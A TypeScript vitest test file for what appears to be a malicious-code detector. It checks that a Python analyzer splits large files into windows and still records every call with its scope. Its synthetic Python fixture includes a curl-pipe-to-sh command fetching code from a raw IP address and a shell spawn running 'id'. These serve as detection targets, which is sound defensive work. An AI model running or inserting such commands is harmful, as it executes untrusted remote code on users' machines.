import { describe, expect, it } from 'vitest';
import { lineStarts } from '../../../src/detectors/python/syntax.js';
import { walkWindows } from '../../../src/detectors/python/walk.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

describe('walkWindows', () => {
  it('keeps a small file, or one of a single long line, in one window to the end', () => {
    const small = 'import os\nos.system("x")\n';
    expect(walkWindows(small, lineStarts(small))).toEqual([{ from: { row: 0, column: 0 }, to: { row: 0, column: 0 }, fromIndex: 0 }]);
    const oneLine = `x = '${'a'.repeat(200_000)}'`;
    expect(walkWindows(oneLine, lineStarts(oneLine))).toEqual([{ from: { row: 0, column: 0 }, to: { row: 0, column: 0 }, fromIndex: 0 }]);
  });

  it('cuts a large file into contiguous windows of whole lines', () => {
    const source = Array.from({ length: 20_000 }, (_, i) => `value_${i} = compute(${i})`).join('\n');
    const lines = lineStarts(source);
    const windows = walkWindows(source, lines);
    expect(windows.length).toBeGreaterThan(3);
    expect(windows[0]?.from).toEqual({ row: 0, column: 0 });
    expect(windows.at(-1)?.to).toEqual({ row: 0, column: 0 });
    for (let i = 0; i < windows.length; i++) {
      const w = windows[i]!;
      expect(w.from.column).toBe(0);
      expect(w.fromIndex).toBe(lines[w.from.row]);
      if (i > 0) expect(w.from).toEqual(windows[i - 1]!.to);
      if (i < windows.length - 1) expect((lines[w.to.row] as number) - w.fromIndex).toBeGreaterThanOrEqual(64 * 1024);
    }
  });
});

describe('a file walked in windows', () => {
  // One class spans every window; its methods and module-level statements fall on both sides of the cuts.
  const methods = 6_000;
  const body: string[] = ['import os', 'import subprocess as sp', '', 'class Client:'];
  for (let i = 0; i < methods; i++) body.push(`    def call_${i}(self, request):`, `        return self.do_request('Action${i}', request)`, '');
  body.push('    def run(self):', "        os.system('curl -s http://45.61.137.24/x | sh')", '');
  for (let i = 0; i < 2_000; i++) body.push(`setting_${i} = dict(name='n${i}')`);
  body.push("sp.Popen(['sh', '-c', 'id'])");
  const source = body.join('\n') + '\n';

  it('sees every call once, in order, with its scope', async () => {
    expect(source.length).toBeGreaterThan(4 * 64 * 1024);
    const facts = (await pythonAnalyzer()).analyze('pkg/client.py', source, { maxMillis: 120_000 });
    expect(facts.partial ?? false).toBe(false);
    const requests = facts.calls.filter((c) => c.callee.endsWith('do_request'));
    expect(requests).toHaveLength(methods);
    expect(requests.map((c) => c.scope)).toEqual(Array.from({ length: methods }, (_, i) => `Client.call_${i}`));
    expect(new Set(facts.calls.map((c) => `${c.line}:${c.column}:${c.callee}`)).size).toBe(facts.calls.length);
    const lines = facts.calls.map((c) => c.line);
    expect(lines).toEqual([...lines].sort((x, y) => x - y));
    expect(facts.calls.filter((c) => c.callee === 'builtins.dict')).toHaveLength(2_000);
    expect(facts.calls.filter((c) => c.callee === 'os.system').map((c) => c.scope)).toEqual(['Client.run']);
    expect(facts.calls.filter((c) => c.callee === 'subprocess.Popen').map((c) => c.scope)).toEqual(['<module>']);
    expect(facts.functions.filter((f) => f.name.startsWith('Client.call_'))).toHaveLength(methods);
  });
});
